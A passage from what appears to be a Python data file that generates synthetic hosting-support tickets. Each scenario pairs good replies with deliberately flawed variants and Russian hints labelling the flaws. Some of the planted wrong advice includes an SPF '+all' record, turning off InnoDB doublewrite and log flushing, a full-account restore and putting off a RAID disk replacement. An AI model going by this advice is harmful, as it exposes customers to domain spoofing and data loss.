             "As for the original issue:"],
  note=["dig NS {dom} → our NS; zone on ns1/ns2 OK, A {ip}. Customer's ISP cache."],
  tail=[("c", [["This morning it resolves correctly everywhere. Thanks for checking!"],
               ["All good now, the new site is live for everyone. Thank you."]]),
        ("e?", None)],
  hints={"thin": "Первый ответ — «ждите 24–48 часов», без проверки NS и зоны",
         "misread": "Объяснил, как добавить домен, хотя клиент уже это сделал",
         "wrong": "Посоветовал удалить домен из панели — у клиента пропали ящики",
         "no_workaround": "Не предложил файл hosts для проверки сайта до обновления DNS",
         "good": "Проверил NS и зону, объяснил кэш, дал обход через hosts"})

S(key="fl-spam-en", team="first-line", lang="en", tags=["mail", "dns"], kind="email",
  consult=(["L2, is DKIM signing on for {dom} at the outbound relays? Customer's mail goes to spam."],
           ["Checked: no DKIM key for {dom} and no SPF in the zone. Signing starts as soon as DKIM is enabled in the panel."]),
  subj=["Our emails go to spam at Gmail", "Outgoing mail marked as spam", "Emails from {dom} land in junk folder"],
  open=[["Emails sent from our mailboxes @{dom} land in the recipients' spam folder (Gmail and Outlook). This started after we moved to your hosting last week. Can you help?"],
        ["Since the migration, most of our invoices sent from billing@{dom} end up in spam. Customers are complaining they never got them."]],
  reply=["Thanks for the details. I've checked the DNS records of {dom}: there is no SPF record and DKIM signing is not enabled, so Gmail and Outlook can't verify that your messages really come from our servers.",
         "Please do the following:",
         ("ul", ["Control panel → Mail → {dom} → DKIM → Enable. The DKIM record is added to the zone automatically.",
                 "Add a TXT record for {dom}: v=spf1 include:_spf.demohost.example ~all (if you also send through other services, e.g. a newsletter tool, include them too).",
                 "Optionally add DMARC: _dmarc.{dom} TXT \"v=DMARC1; p=none; rua=mailto:postmaster@{dom}\"."]),
         "Changes take effect within an hour. You can check the result by sending a test message to [[https://www.mail-tester.com|mail-tester.com]]."],
  wa=["Meanwhile, ask your key recipients to mark your messages as \"Not spam\" — it helps your domain's reputation recover faster."],
  thin=["Please add SPF and DKIM records."],
  ask=["What values exactly? I'm not an IT person."],
  unv_fail=["Added everything, but mail-tester still says the DKIM signature is missing."],
  unv_fix=["I checked again: the DKIM record is in the zone, but signing was only enabled for your domain alias, not for {dom} itself. I've enabled it, sent a test message to mail-tester and got 10/10. Sorry for the extra round."],
  wrong_add=["Tip: to be on the safe side, make the SPF record v=spf1 +all so that no legitimate server is ever rejected."],
  tail=[("c", [["Done, mail-tester gives us 9.8/10 now. Thanks a lot!"],
               ["Invoices are arriving in inboxes again. Thank you!"]]),
        ("e?", None)],
  hints={"thin": "Ответ «добавьте SPF и DKIM» без значений записей",
         "wrong": "Посоветовал SPF с +all — это разрешает отправку от имени домена любому серверу",
         "unverified": "Не проверил, что DKIM включён именно для основного домена",
         "no_workaround": "Не дал рекомендаций на время, пока восстанавливается репутация",
         "good": "Проверил DNS, дал точные значения SPF/DKIM/DMARC и способ проверки"})

S(key="fl-transfer-en", team="first-line", lang="en", tags=["domain"], kind="email", ztype="question",
  subj=["Domain transfer to DemoHost", "How to transfer {dom} with auth code", "Transfer question — will the site go down?"],
  open=[["I'd like to transfer {dom} from my current registrar to you. I have the EPP/auth code. How do I start, and will the site go down during the transfer?"],
        ["We want to consolidate all our domains at DemoHost. First one is {dom}. What do I need to do and how long does it take?"]],
  reply=["Sure! I checked {dom} in whois: it isn't locked and was registered more than 60 days ago, so it can be transferred. To start:",
         ("ul", ["In the client area go to Domains → Transfer domain and enter {dom}.",
                 "Paste the auth (EPP) code and pay for the transfer — it includes a one-year renewal.",
                 "Approve the transfer from the email your current registrar sends to the domain owner's address."]),
         "The transfer usually takes 5–7 days. Nameservers don't change during the transfer, so your site and email keep working the whole time."],
  thin=["You can transfer the domain in the client area."],
  ask=["Where exactly? And will my website go down?"],
  wrong=["Please note the site will be offline for the whole transfer period (5–7 days), so plan accordingly."],
  wrong_c=["A week offline is not acceptable for us. Is there really no way around it?"],
  wrong_fix=["Apologies, I was wrong: the nameservers stay the same during a transfer, so there's no downtime at all."],
  na={"workaround"},
  tail=[("c", [["Transfer completed today, everything kept working. Thanks!"],
               ["Started the transfer, approval email received. Thanks for the clear steps."]]),
        ("e?", None)],
  hints={"thin": "Ответ «в личном кабинете» без шагов и без ответа про простой",
         "wrong": "Сообщил, что сайт будет недоступен всю неделю переноса, — это неверно",
         "good": "Проверил whois заранее, дал шаги и ответил про отсутствие простоя"})

S(key="fl-dbrestore-en", team="first-line", lang="en", tags=["backup", "mysql"], kind="email", priority="high",
  consult=(["L2: does today's 03:10 backup for {acc} include shop_db? Customer needs the orders table back."],
           ["Yes, shop_db is in the 03:10 set (1.2 GB). Restoring into a new database is the safe way."]),
  subj=["Need to restore a dropped database table", "URGENT: orders table deleted", "Restore one table from backup"],
  open=[["A developer accidentally dropped the `orders` table in our shop database (shop_db) about two hours ago. Do you have backups? Please help ASAP."],
        ["Our contractor ran a wrong migration and the orders table in shop_db is empty now. Can we get it back from your backups without losing today's data in other tables?"]],
  reply=["We keep daily backups for 14 days; the latest one for your account was taken today at 03:10 (Moscow time), so it contains the orders table as of that moment. Orders placed after 03:10 are not in it.",
         "To avoid overwriting everything your shop has collected since then, I suggest restoring the backup into a separate database instead of on top of shop_db:",
         ("ul", ["Control panel → Backups → today's copy → Databases → shop_db → Restore to a new database (e.g. shop_db_restore).",
                 "Then export just the orders table from shop_db_restore in phpMyAdmin and import it into shop_db."]),
         "If you prefer, reply here and we'll do it for you."],
  wa=["Orders created after 03:10 can be recovered from your shop's order notification emails or from your payment provider's dashboard."],
  thin=["You can restore from backups in the control panel."],
  ask=["Will that overwrite the whole database? Orders kept coming in after the table was dropped."],
  wrong=["Just restore the whole account from yesterday's backup in the control panel, it's the fastest way."],
  wrong_c=["We restored the whole account — now today's new customers and emails are gone too!"],
  wrong_fix=["I'm sorry, that recommendation was wrong: a full account restore overwrites all databases and mailboxes. I've brought today's mail back from the pre-restore snapshot.",
             "Here's what should have been done for the table:"],
  tail=[("c", [["Could you do it for us? I'm afraid to break something."]]),
        ("e", [["Done: shop_db_restore created, the orders table copied into shop_db (1,284 rows, last order at 03:07). I checked the shop's admin area — orders are listed. The temporary database will be deleted in 3 days."]]),
        ("c?", [["Orders are back. You saved our day!"]])],
  hints={"thin": "Ответ «восстановите в панели» без предупреждения, что перезапишется вся база",
         "wrong": "Посоветовал восстановить весь аккаунт — клиент потерял сегодняшние данные",
         "no_workaround": "Не подсказал, как восстановить заказы после 03:10",
         "good": "Предложил восстановление в отдельную базу, чтобы не потерять сегодняшние данные"})

S(key="fl-htaccess-en", team="first-line", lang="en", tags=["hosting", "php"], kind="email",
  consult=(["L2, can you grab the exact error from the Apache log for {dom}? The panel log viewer cuts the lines."],
           ["[core:alert] .htaccess: Invalid command 'Redirect301' — typo in the directive, that's the whole 500."]),
  subj=["500 Internal Server Error on {dom}", "Site down after .htaccess change", "Internal server error since this morning"],
  open=[["Our site {dom} throws a 500 Internal Server Error since this morning. My developer edited .htaccess to add redirects. Can you check what's wrong?"],
        ["Site is down with error 500. We only added a couple of redirect rules for old URLs. Please help."]],
  reply=["The error log for {dom} shows:",
         ("pre", "[core:alert] /home/{acc_l}/{dom}/.htaccess: Invalid command 'Redirect301', perhaps misspelled\n  or defined by a module not included in the server configuration"),
         "The new line uses a directive that doesn't exist, Redirect301. The correct syntax is:",
         ("pre", "Redirect 301 /old-page https://{dom}/new-page"),
         "Please fix that line (File manager → {dom} → .htaccess) and the site will be back."],
  wa=["To get the site up immediately, you can rename .htaccess to .htaccess.bak — the site will work without the redirects until the file is fixed."],
  thin=["There's an error in your .htaccess file."],
  ask=["Which line? The file has 40 lines."],
  unv_fail=["Fixed that line, now the browser says 'Too many redirects'."],
  unv_fix=["I've looked at the file again: the second rule redirects http→https, and the 'Force HTTPS' switch in the panel does the same, so they loop. I removed the duplicate rule (a copy is saved as .htaccess.orig) and checked the site in a browser and with curl — it loads fine over HTTPS now. Sorry for not catching it the first time."],
  tail=[("c", [["Works now, thank you for spotting it!"], ["Site is back, thanks a lot."]]),
        ("e?", None)],
  hints={"thin": "Ответ «ошибка в .htaccess» без строки из лога и исправления",
         "unverified": "Не проверил сайт после исправления — возник цикл редиректов",
         "no_workaround": "Не предложил временно переименовать .htaccess, чтобы поднять сайт",
         "good": "Привёл строку из error.log и правильный синтаксис директивы"})

# ----- second line, Russian -------------------------------------------------------------

S(key="l2-vps-net", team="second-line", lang="ru", tags=["vps", "network"], kind="email", esc=True, priority="urgent",
  subj=["VPS недоступен после перезагрузки", "{srv} не пингуется после обновления", "Сервер не отвечает по SSH"],
  open=[["После перезагрузки VPS {srv} перестал отвечать — не пингуется и не пускает по SSH. Перезагружал из панели, чтобы применилось обновление ядра. Там CRM, у нас стоит работа!"],
        ["Обновили систему на {srv} до Ubuntu 22.04, после ребута сервер пропал из сети. В панели статус «Работает». Помогите срочно."]],
  l1_reply=["Проверили: сервер {srv} запущен, но не отвечает по сети. Передали заявку инженерам второй линии — они подключатся к консоли и проверят сетевые настройки. Ответим в течение часа."],
  l1_note=["Передаю на вторую линию. VPS {srv} ({ip}) после ребута из панели не пингуется, в панели Running, в VNC виден логин-промпт. Клиент обновлял систему/ядро. На сервере CRM, клиент просит срочно."],
  reply=["Подключились к серверу через VNC-консоль. После обновления до Ubuntu 22.04 у сетевого интерфейса сменилось имя (eth0 → ens3), а в /etc/netplan/50-cloud-init.yaml осталось старое — поэтому сеть не поднимается.",
         "Исправили имя интерфейса в конфигурации (прежняя версия сохранена как 50-cloud-init.yaml.bak) и применили её:",
         ("pre", "network:\n  version: 2\n  ethernets:\n    ens3:\n      addresses: [{ip}/24]\n      routes:\n        - to: default\n          via: {gw}"),
         "Сервер снова доступен по {ip}, SSH работает, службы CRM запущены — проверили, что веб-интерфейс CRM открывается."],
  shallow=["Перезагрузили сервер через консоль, сеть поднялась. Проверьте, пожалуйста."],
  ask_shallow=["Работает, спасибо. А что это было? После следующего обновления опять пропадёт?"],
  note=["VNC: ip a — ens3 DOWN, netplan описывает eth0. После dist-upgrade включились predictable names. Поправил netplan, netplan apply — пинг есть, CRM (nginx + php-fpm) поднялась."],
  na={"workaround"},
  tail=[("c", [["Всё работает, спасибо, что так быстро!"], ["Подтверждаю, CRM доступна. Спасибо."]]),
        ("e?", None)],
  hints={"shallow": "Сначала ограничился «перезагрузили, проверьте», причину (имя интерфейса в netplan) объяснил только после вопроса клиента",
         "good": "Нашёл причину через VNC, показал исправленный конфиг, проверил CRM"})

S(key="l2-load", team="second-line", lang="ru", tags=["hosting", "performance"], kind="email", esc=True,
  subj=["503 и медленная загрузка {dom}", "Нагрузка выросла без причины", "Сайт тормозит, превышение лимита CPU"],
  open=[["Сайт {dom} последние три дня очень медленно открывается, иногда 503. В панели висит предупреждение «Превышение лимита CPU». Посещаемость у нас не выросла."],
        ["Получили от вас уже третье уведомление о превышении нагрузки на аккаунте {acc}. Мы ничего не меняли, трафик по метрике обычный. Что грузит сервер?"]],
  l1_reply=["Видим превышение нагрузки на аккаунте. Чтобы разобраться в причине, передали заявку специалистам второй линии — они проанализируют логи и ответят в течение рабочего дня."],
  l1_note=["На вторую линию: аккаунт {acc}, CPU 250–300% от лимита тарифа последние 3 дня, посещаемость по словам клиента не менялась. Прошу проверить логи на ботов."],
  reply=["Проанализировали access.log сайта {dom} за три дня: около 70% запросов — от поисковых ботов и парсеров. Больше всего от бота, который обходит страницы фильтров каталога с разными параметрами (?filter=…&sort=…): это десятки тысяч уникальных URL, и каждый генерирует тяжёлый запрос к базе.",
         ("pre", "  41872 GET /catalog/?filter=...  \"Mozilla/5.0 (compatible; SemrushBot/7~bl)\"\n  18233 GET /catalog/?sort=...    \"Mozilla/5.0 (compatible; AhrefsBot/7.0)\"\n   6120 GET /catalog/ ...         (обычные посетители)"),
         "Что рекомендуем:",
         ("ul", ["запретить обход страниц с параметрами в robots.txt (Disallow: /*?filter= и Disallow: /*?sort=);",
                 "если вы не пользуетесь сервисами Semrush и Ahrefs, заблокировать их ботов в .htaccess;",
                 "включить кэширование страниц каталога в CMS."])],
  wa=["Мы уже временно ограничили частоту запросов от этих двух ботов на уровне сервера — нагрузка снизилась до 60% лимита, сайт открывается быстро. Ограничение действует 7 дней, за это время стоит внести изменения в robots.txt."],
  shallow=["Увеличили лимит CPU для аккаунта, сайт работает быстрее. Рекомендуем перейти на тариф выше."],
  ask_shallow=["А в чём причина-то? Посещаемость не выросла, зачем нам тариф выше?"],
  note=["access.log за 3 дня: 68% запросов — боты, топ — SemrushBot по фильтрам каталога. Включил limit_req для UA SemrushBot|AhrefsBot на 7 дней на web12."],
  tail=[("c", [["Добавили правила в robots.txt, нагрузка в панели в норме. Спасибо за разбор!"],
               ["Понятно, спасибо. Кэширование включили, сайт летает."]]),
        ("e?", None)],
  hints={"shallow": "Сначала поднял лимит и предложил сменить тариф, не найдя причину; разбор логов — только после вопроса клиента",
         "no_workaround": "Не ограничил ботов на время, пока клиент правит robots.txt, — сайт продолжал тормозить",
         "good": "Разобрал access.log, показал топ ботов и сразу снизил нагрузку ограничением"})

S(key="l2-mysql", team="second-line", lang="ru", tags=["vps", "mysql"], kind="email",
  subj=["MySQL на VPS падает по ночам", "Каждое утро «Error establishing a database connection»", "База на {srv} падает"],
  open=[["На VPS {srv} каждую ночь около 3:00 падает MySQL, утром сайт выдаёт «Error establishing a database connection». Перезапускаем вручную. Что с ним?"],
        ["Уже неделю по утрам лежит сайт на {srv}: MySQL остановлен, после systemctl restart работает до следующей ночи. Сервер на администрировании у вас, посмотрите, пожалуйста."]],
  reply=["Посмотрели логи на {srv}. В /var/log/syslog видно, что в 03:02 MySQL завершает OOM killer — процессу не хватает оперативной памяти:",
         ("pre", "Out of memory: Killed process 1123 (mysqld) total-vm:3412044kB, anon-rss:1789320kB"),
         "В это время по cron запускается резервное копирование (mysqldump всех баз и архивация файлов), и вместе с innodb_buffer_pool_size = 1,5 ГБ при 2 ГБ RAM памяти не хватает.",
         "Что сделали и что предлагаем:",
         ("ul", ["уменьшили innodb_buffer_pool_size до 768M в /etc/mysql/mysql.conf.d/mysqld.cnf (копия прежнего файла — mysqld.cnf.bak);",
                 "добавили swap-файл 1 ГБ, чтобы кратковременные пики не приводили к OOM;",
                 "рекомендуем перенести бэкап на 5:00 и запускать mysqldump с --single-transaction — так он легче для сервера."]),
         "Если нагрузка будет расти, лучше увеличить RAM до 4 ГБ — это делается в панели без переустановки."],
  wa=["Также включили автоматический перезапуск MySQL при падении (Restart=on-failure в systemd), чтобы сайт не лежал до утра, если проблема всё же повторится."],
  shallow=["Перезапустили MySQL, сейчас всё работает. Если повторится — пишите."],
  ask_shallow=["Так оно повторяется каждую ночь, об этом и речь. Нужна причина."],
  wrong_add=["Дополнительно для экономии памяти можно выставить innodb_doublewrite = 0 и innodb_flush_log_at_trx_commit = 0."],
  note=["syslog: OOM killer в 03:02 каждую ночь, mysqld 1.7G RSS. cron: /root/backup.sh в 03:00 (mysqldump + tar). RAM 2G, swap не было."],
  tail=[("c", [["Третью ночь без падений. Спасибо, бэкап перенесли на 5 утра."],
               ["Спасибо за подробный разбор, память увеличим в следующем месяце."]]),
        ("e?", None)],
  hints={"shallow": "Сначала только перезапустил MySQL, причину (OOM из-за бэкапа) нашёл после повторного обращения",
         "wrong": "Рекомендовал отключить doublewrite и сброс журнала — риск потери данных при сбое, и на память это не влияет",
         "no_workaround": "Не включил автоперезапуск MySQL на время, пока проверяем изменения",
         "good": "Нашёл OOM в syslog и связал его с ночным бэкапом, все изменения с копиями конфигов"})

S(key="l2-raid", team="second-line", lang="ru", tags=["dedicated", "hardware"], kind="email", priority="high",
  subj=["RAID degraded на выделенном сервере", "Ошибка диска на сервере",
        "Письмо мониторинга: деградация массива на {srv}"],
  open=[["На выделенном сервере {srv} пришло письмо от мониторинга: «RAID degraded». Сервер работает. Это опасно? Что нужно сделать?"],
        ["В mdstat на {srv} вижу [U_]. Это значит, что диск умер? Данные на месте?"]],
  reply=["Проверили сервер {srv}: в программном RAID1 (md0) вышел из строя диск /dev/sdb — в SMART растёт число переназначенных секторов, и md исключил его из массива. Сервер работает на одном диске /dev/sda, данные целы, но резервирования сейчас нет.",
         ("pre", "md0 : active raid1 sda2[0]\n      976630464 blocks super 1.2 [2/1] [U_]"),
         "Предлагаем заменить диск в ближайшее время. Замена занимает около 30 минут, на это время сервер нужно выключить. Пожалуйста, подтвердите удобное время — дата-центр работает круглосуточно.",
         "Пока массив деградирован, отказ второго диска приведёт к потере данных, поэтому до замены проверьте, что резервные копии свежие."],
  shallow=["Диск нужно заменить. Когда удобно?"],
  ask_shallow=["Какой диск? Данные целы? Сервер выключится?"],
  wrong_add=["Впрочем, срочности нет: RAID1 может работать на одном диске сколько угодно, замену можно запланировать на следующий месяц."],
  note=["smartctl -a /dev/sdb: Reallocated_Sector_Ct 1184 и растёт, md выкинул sdb2. sda чистый. Серийник sdb: WD-WCC4N0123456."],
  na={"workaround"},
  tail=[("c", [["Давайте сегодня ночью, после 23:00 МСК. Бэкап свежий, проверили."], ["Можно в ближайшее ночное окно, после полуночи по Москве. Бэкапы проверили."]]),
        ("n", [["Согласовали замену sdb в ночное окно, заявка в ДЦ оформлена, серийник WD-WCC4N0123456."]]),
        ("e", [["Диск заменили ночью, сервер запущен. Новый диск добавлен в массив, идёт синхронизация — около 2 часов, сервер при этом доступен. Проверили: все службы запущены, сайт открывается."]], None, (360, 720)),
        ("c?", [["Видим, синхронизация закончилась, [UU]. Спасибо!"]], None, (180, 480))],
  hints={"shallow": "Первый ответ «диск нужно заменить» без указания диска, состояния данных и простоя",
         "wrong": "Написал, что RAID1 может сколько угодно работать на одном диске и замену можно отложить на месяц, — это риск потери данных",
         "good": "Показал mdstat и SMART, предупредил о рисках до замены, согласовал окно"})

S(key="l2-blacklist", team="second-line", lang="ru", tags=["mail", "vps", "security"], kind="email", esc=True, priority="high",
  subj=["Письма не доходят — IP в чёрном списке", "550 blocked using zen.spamhaus.org", "Наш сервер в Spamhaus"],
  open=[["Письма с нашего сервера {srv} не доходят до клиентов на mail.example и ещё нескольких доменах — возвращаются с ошибкой «550 5.7.1 … blocked using zen.spamhaus.org». Мы рассылок не делаем!"],
        ["Часть писем с {dom} возвращается с отказом, в тексте ошибки — Spamhaus. Мы шлём только письма о заказах. Откуда это?"]],
  l1_reply=["Видим, что IP {ip} вашего сервера находится в списке Spamhaus. Передали заявку на вторую линию для диагностики — скорее всего, с сервера уходит нежелательная почта."],
  l1_note=["Вторая линия: IP {ip} (VPS {srv}) в Spamhaus ZEN, клиент говорит, что рассылок нет. Похоже на взлом — проверьте, пожалуйста, очередь почты. Сервер на нашем администрировании."],
  reply=["Проверили сервер {srv}: в очереди Postfix было более 18 000 писем, отправленных скриптом из каталога сайта — /var/www/{dom}/wp-content/uploads/2026/08/cache.php. Это вредоносный скрипт, загруженный через уязвимость в плагине. Именно он рассылал спам, из-за чего IP попал в Spamhaus.",
         "Что сделали:",
         ("ul", ["удалили скрипт и очистили очередь от спама (легитимные письма о заказах оставили);",
                 "временно ограничили исходящую почту с сервера 100 письмами в час;",
                 "подали заявку на исключение IP из Spamhaus — обычно её рассматривают в течение суток."]),
         "Что нужно сделать вам: обновить WordPress и плагины на {dom}, сменить пароли администраторов и FTP. Без этого скрипт могут загрузить снова."],
  wa=["Пока IP в списке, важные письма можно отправлять через наш SMTP-релей relay.demohost.example:587 — мы его для вас уже включили, доступы в панели в разделе «Почта» → «Релей»."],
  shallow=["Подали заявку на исключение IP из Spamhaus. Ожидайте 24 часа."],
  ask_shallow=["А почему мы туда попали? Нас же снова заблокируют."],
  note=["mailq: 18 342 письма от www-data, скрипт uploads/2026/08/cache.php (POST с разных IP). Удалил скрипт, postsuper -d по отправителю, rate limit 100/ч. Делистинг подан."],
  tail=[("c", [["Из списка нас убрали, письма доходят. Плагины обновили, пароли сменили."],
               ["Спасибо! Письма о заказах снова доходят до клиентов."]]),
        ("e?", None)],
  hints={"shallow": "Первым ответом только подал делистинг, не найдя источник спама, — IP попал бы в список снова",
         "no_workaround": "Не предложил релей для важных писем, пока IP в списке",
         "good": "Нашёл скрипт-рассыльщик по очереди Postfix, очистил очередь и ограничил отправку"})

S(key="l2-snap", team="second-line", lang="ru", tags=["backup", "vps"], kind="email",
  subj=["Не создаются снапшоты VPS", "Автоматический бэкап VPS с ошибкой", "Снапшот {srv} — статус «Ошибка»"],
  open=[["Уже неделю в панели не создаются автоматические снапшоты VPS {srv}, задача висит в статусе «Ошибка». Ручной тоже не делается."],
        ["Заметили, что последний успешный снапшот {srv} был 9 дней назад. Почему не делаются новые? Мы на них рассчитываем."]],
  reply=["Проверили: на вашем тарифе доступно 3 снапшота, и все три слота заняты ручными снапшотами от мая и июня — ручные снапшоты не удаляются автоматически. Поэтому новые, и автоматические, и ручные, создаются с ошибкой «Snapshot limit exceeded».",
         "Удалите ненужные снапшоты в разделе «VPS» → {srv} → «Снапшоты», и автоматическое копирование возобновится этой ночью. Если старые снапшоты нужны, можно подключить расширенный пакет на 7 снапшотов (150 ₽ в месяц)."],
  wa=["Чтобы у вас не было дня без копии, мы сделали внеочередной снапшот в служебное хранилище — его можно восстановить через поддержку в течение 7 дней."],
  shallow=["Перезапустили задачу, снапшот создался."],
  ask_shallow=["Спасибо, а автоматические теперь будут работать? Почему они падали?"],
  unv_fail=["Удалил два старых снапшота, но ночью автоматический опять не создался."],
  unv_fix=["Посмотрели ещё раз: после серии ошибок расписание автоматически перешло в статус «Приостановлено» (так происходит после 5 ошибок подряд). Включили расписание и запустили задачу вручную — снапшот создан, статус «Успешно». Извините, что не проверили расписание сразу."],
  note=["Лимит снапшотов 3/3, ошибка Snapshot limit exceeded с {date_before2}. Ручные от мая и июня. Сделал служебный снапшот в backup-pool-2."],
  tail=[("c", [["Вижу свежий снапшот, спасибо!"], ["Удалили старые, ночной снапшот создался. Спасибо."]]),
        ("e?", None)],
  hints={"shallow": "Перезапустил задачу, не выяснив, что упираемся в лимит снапшотов",
         "unverified": "Не проверил расписание после очистки — оно осталось приостановленным",
         "no_workaround": "Не сделал внеочередную копию, пока автоматические не работают",
         "good": "Нашёл лимит снапшотов и сразу сделал служебную копию"})

S(key="l2-ddos", team="second-line", lang="ru", tags=["network", "ddos", "vps"], kind="email", priority="urgent",
  subj=["Сайт лежит, похоже на DDoS", "Атака на {dom}?", "VPS под 100% нагрузкой, тысячи запросов"],
  open=[["Сайт {dom} с утра не открывается, VPS {srv} под 100% нагрузкой, в логах тысячи запросов с разных IP. Похоже на DDoS. Помогите!"],
        ["На {srv} load average 40, nginx не справляется, в access.log сплошные POST на wp-login.php. Что делать?"]],
  reply=["Подтверждаем: на {ip} идёт HTTP-флуд — около 4 000 запросов в секунду к /wp-login.php и /xmlrpc.php с нескольких тысяч IP-адресов. Включили для вашего IP фильтрацию трафика на уровне сети: вредоносные запросы отсекаются, нагрузка на VPS снизилась до 15%, сайт открывается.",
         "Рекомендации:",
         ("ul", ["закройте доступ к xmlrpc.php, если не публикуете записи через приложение WordPress;",
                 "ограничьте доступ к /wp-admin по IP или добавьте HTTP-авторизацию;",
                 "фильтрация остаётся включённой 72 часа, затем оценим ситуацию и сообщим вам."])],
  shallow=["Включили защиту от DDoS."],
  ask_shallow=["Надолго? И что нам сделать, чтобы не повторилось?"],
  note=["tcpdump: ~4k rps на 80/443, топ URL /xmlrpc.php и /wp-login.php, ~3,5 тыс. источников. Профиль фильтрации web-basic на {ip}, 72 ч."],
  na={"workaround"},
  tail=[("c", [["Сайт работает, xmlrpc закрыли. Спасибо за оперативность!"], ["Спасибо, всё открывается."]]),
        ("e?", None)],
  hints={"shallow": "Ответ «включили защиту» без описания атаки, срока фильтрации и рекомендаций",
         "good": "Описал характер атаки, включил фильтрацию и дал рекомендации по WordPress"})

S(key="l2-502", team="second-line", lang="ru", tags=["hosting", "migration"], kind="email", esc=True,
  subj=["502 Bad Gateway после переноса на новый сервер", "Ошибки 502 в админке после миграции", "{dom}: 502 через раз"],
  open=[["Вчера вы писали, что наш аккаунт переносят на новый сервер. Сегодня на {dom} 502 Bad Gateway через раз, особенно в админке."],
        ["После вашей плановой миграции в админке Битрикса при сохранении товаров и переиндексации вылетает 502. До переезда всё было нормально."]],
  l1_reply=["Видим ошибки 502 на сайте после миграции. Передали вопрос специалистам второй линии, они сравнят настройки старого и нового сервера."],
  l1_note=["Вторая линия: {acc} мигрировал вчера web07 → web21. На {dom} периодические 502, чаще в /bitrix/admin. Кэш чистили, не помогло."],
  reply=["Разобрались: на новом сервере для сайта был установлен лимит времени выполнения PHP-скриптов 30 секунд вместо 120, как было на старом. Тяжёлые операции в админке Битрикса (переиндексация поиска, импорт товаров) не укладываются в 30 секунд, PHP-FPM обрывает процесс, и nginx отдаёт 502.",
         "Вернули прежние значения (max_execution_time = 120, request_terminate_timeout = 150) и проверили: переиндексация в админке выполняется без ошибок. Приносим извинения за неудобства после переезда."],
  shallow=["Перезапустили PHP-FPM, проверьте, пожалуйста."],
  ask_shallow=["Опять 502 при сохранении товара. Перезапуск не помог."],
  note=["php-fpm.log: execution timed out (30.012 sec), terminating. На web07 было 120 с, шаблон пула на web21 не перенёс кастомный таймаут. Поправил пул {acc_l}."],
  na={"workaround"},
  tail=[("c", [["Да, всё работает, спасибо."], ["Переиндексация прошла, ошибок нет. Спасибо!"]]),
        ("e?", None)],
  hints={"shallow": "Сначала перезапустил PHP-FPM без диагностики — ошибка повторилась",
         "good": "Сравнил настройки пула до и после миграции и нашёл таймаут"})

# ----- second line, English -------------------------------------------------------------

S(key="l2-chain-en", team="second-line", lang="en", tags=["ssl", "vps"], kind="email",
  subj=["SSL works in browser but API clients fail", "unable to get local issuer certificate", "SSL verification errors after certificate renewal"],
  open=[["Our site {dom} works fine in Chrome, but our Android app and curl fail with 'unable to get local issuer certificate'. We installed the new certificate on our VPS {srv} (nginx) last week."],
        ["After renewing our certificate, webhooks from our payment provider to {dom} fail with an SSL verification error. Browsers show the padlock just fine. What's going on?"]],
  reply=["I've checked the TLS handshake of {dom}: the server sends only your domain certificate, without the intermediate certificate. Desktop browsers often fetch the missing intermediate on their own, which is why Chrome works, but curl, Android and most server-side clients don't.",
         ("pre", "$ openssl s_client -connect {dom}:443 -servername {dom}\n...\nCertificate chain\n 0 s:CN = {dom}\n   i:C = US, O = Example CA, CN = Example CA RSA DV\nVerify return code: 21 (unable to verify the first certificate)"),
         "To fix it, concatenate the certificate and the intermediate (CA bundle) into one file and point nginx to it:",
         ("pre", "cat {dom}.crt ca-bundle.crt > {dom}.fullchain.crt\n# in the server block: ssl_certificate /etc/nginx/ssl/{dom}.fullchain.crt;\nnginx -t && systemctl reload nginx")],
  shallow=["Please reinstall the certificate."],
  ask_shallow=["We already reinstalled it twice. What exactly is wrong?"],
  note=["s_client: chain depth 0 only, no intermediate sent. Customer-managed nginx, we have no root there."],
  na={"workaround"},
  tail=[("c", [["Added the bundle, curl works now. Thanks for the clear explanation!"], ["Webhooks are coming through again. Thank you!"]]),
        ("e?", None)],
  hints={"shallow": "Первый ответ «переустановите сертификат» без диагностики цепочки",
         "good": "Показал вывод openssl s_client и точные команды для fullchain"})

S(key="l2-disk-en", team="second-line", lang="en", tags=["vps"], kind="email", priority="high",
  subj=["Server disk full, can't find what's using space", "VPS disk 100% but du shows 3 GB", "No space left on device on {srv}"],
  open=[["Our VPS {srv} reports the disk 100% full, services are failing to write. du on /var/www shows only 3 GB, the disk is 40 GB. Where did the space go? It's under your managed plan."],
        ["Postgres on {srv} stopped with 'No space left on device'. We didn't upload anything big. Can you take a look? You have access (managed server)."]],
  reply=["I logged in and found it: about 31 GB is taken by a single log file, /var/log/app/worker.log, which your application writes in debug mode and which isn't rotated. Another 2.6 GB are old journald logs.",
         ("pre", "# du -xh / --max-depth=2 | sort -h | tail -5\n2.6G  /var/log/journal\n3.1G  /var/www\n31G   /var/log/app\n37G   /var/log\n39G   /"),
         "I truncated worker.log (the last 100 MB are saved as worker.log.tail in case you need them), limited journald to 500 MB (SystemMaxUse=500M) and added a logrotate rule that rotates the app log daily and keeps 7 compressed copies. Disk usage is now 22%, and all services are running again.",
         "I'd also recommend switching the worker from debug back to info logging."],
  shallow=["I freed some space by cleaning the logs."],
  ask_shallow=["Thanks, but will it fill up again? What was it?"],
  note=["worker.log 31G, no logrotate. Truncated, tail saved. journald SystemMaxUse=500M. df 22%, postgres/app restarted OK."],
  na={"workaround"},
  tail=[("c", [["Great, logging level switched to info. Thanks!"], ["Perfect, thanks for setting up rotation too."]]),
        ("e?", None)],
  hints={"shallow": "Сначала «почистил логи» без объяснения причины и без настройки ротации",
         "good": "Нашёл лог приложения на 31 ГБ, сохранил хвост, настроил ротацию и лимит journald"})

S(key="l2-dns-en", team="second-line", lang="en", tags=["dns"], kind="email", esc=True,
  subj=["Subdomain not resolving after adding A record", "api.{dom} returns NXDOMAIN", "New DNS record not working"],
  open=[["I added an A record for api.{dom} pointing to {ip2} in your control panel 6 hours ago, but it still doesn't resolve (NXDOMAIN). The main domain works fine."],
        ["Our new subdomain api.{dom} doesn't resolve at all, even when querying your nameservers directly. The record is visible in the panel. Help?"]],
  l1_reply=["Thanks, I can reproduce the NXDOMAIN even on our nameservers. I've passed this to our second-line team to check the DNS servers; they'll get back to you shortly."],
  l1_note=["L2: api.{dom} A {ip2} is in the panel, but ns1/ns2 return NXDOMAIN. Other records fine. Zone serial looks old — publishing issue?"],
  reply=["Found it: the record was saved in the panel, but the zone wasn't published because it failed validation — there was an older CNAME for api.{dom}, and a name can't have both a CNAME and an A record. The panel should have shown you an error; sorry it didn't, we've reported that to our developers.",
         "I removed the old CNAME (it pointed to old-api.{dom}, which no longer exists), the zone got published, and both nameservers now answer:",
         ("pre", "$ dig +short api.{dom} @ns1.demohost.example\n{ip2}"),
